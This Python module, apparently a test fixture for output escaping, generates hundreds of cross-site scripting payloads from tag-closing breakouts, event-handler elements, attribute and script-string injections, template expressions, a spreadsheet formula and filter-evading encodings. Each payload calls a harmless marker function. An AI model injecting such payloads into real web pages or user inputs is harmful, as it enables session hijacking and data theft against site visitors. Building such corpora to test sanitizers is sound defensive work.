"""Texts that would run as a script wherever a page forgot to escape them; each calls `zq()`.

Put together from how they get in, what they are and how they are spelled, so that there are many and none is dull.
None is longer than 100 characters: it fits where a title does.
"""

from __future__ import annotations

CALL = "zq()"
# Out of an attribute, a text area, a title, a comment, a script, a style.
EXITS = [
    "",
    '">',
    "'>",
    "</textarea>",
    "</title>",
    "-->",
    "</script>",
    "</style>",
    "</option></select>",
    "]]>",
]
ELEMENTS = [
    f"<script>{CALL}</script>",
    f"<img src=x onerror={CALL}>",
    f"<svg onload={CALL}>",
    f"<svg/onload={CALL}//",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<details open ontoggle={CALL}>",
    f"<input autofocus onfocus={CALL}>",
    f"<select autofocus onfocus={CALL}>",
    f"<video><source onerror={CALL}></video>",
    f"<audio src=x onerror={CALL}>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'>",
    f"<iframe src=javascript:parent.{CALL}>",
    f"<object data=javascript:{CALL}>",
    f"<embed src=javascript:{CALL}>",
    f"<body onload={CALL}>",
    f"<style onload={CALL}>a{{}}</style>",
    f"<math><mtext><img src=x onerror={CALL}></mtext></math>",
    f"<template><img src=x onerror={CALL}></template><img src=x onerror={CALL}>",
    f"<a autofocus tabindex=1 onfocus={CALL} href=#>",
    f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>",
    f"<form><button formaction=javascript:{CALL} autofocus onfocus={CALL}>",
    f"<marquee onstart={CALL}>",
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
]
# Without a bracket: out of an attribute's quotes into an attribute of their own.
ATTRIBUTES = [
    f"{quote}{space}{handler}={CALL}{space}{more}"
    for quote in ('"', "'", "`", "")
    for space in (" ", "/", "\t")
    for handler, more in (("onfocus", "autofocus"), ("onmouseover", ""), ("onerror", "src=x"))
]
# Out of a string of a script, or of a template of the page.
EXPRESSIONS = [
    f"';{CALL};'",
    f'";{CALL};"',
    f"`;{CALL};`",
    f"\\';{CALL}//",
    f'\\";{CALL}//',
    f"${{{CALL}}}",
    f"{{{{{CALL}}}}}",
    f"{{{{constructor.constructor('{CALL}')()}}}}",
    f"{{% include request %}}{{% {CALL} %}}",
    f"<%= {CALL} %>",
    f"javascript:{CALL}",
    f"JaVaScRiPt:{CALL}",
    f"java\tscript:{CALL}",
    f"data:text/html,<script>{CALL}</script>",
    f"[x](javascript:{CALL})",
    f'![x](x"onerror="{CALL})',
    f"<javascript:{CALL}>",
    f"&lt;img src=x onerror={CALL}&gt;",
    f"&#60;img src=x onerror={CALL}&#62;",
    f"%3Cimg src=x onerror={CALL}%3E",
    f"\\u003cimg src=x onerror={CALL}\\u003e",
    f"\\x3cimg src=x onerror={CALL}\\x3e",
    f"＜img src=x onerror={CALL}＞",
    f"<<script>{CALL}//<</script>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f"<IMG SRC=x ONERROR={CALL}>",
    f"<img/src=x/onerror={CALL}>",
    f"<img src=x onerror\n={CALL}>",
    f'=HYPERLINK("javascript:{CALL}")',
]
PAYLOADS = list(
    dict.fromkeys([*(out + element for out in EXITS for element in ELEMENTS), *ATTRIBUTES, *EXPRESSIONS])
)
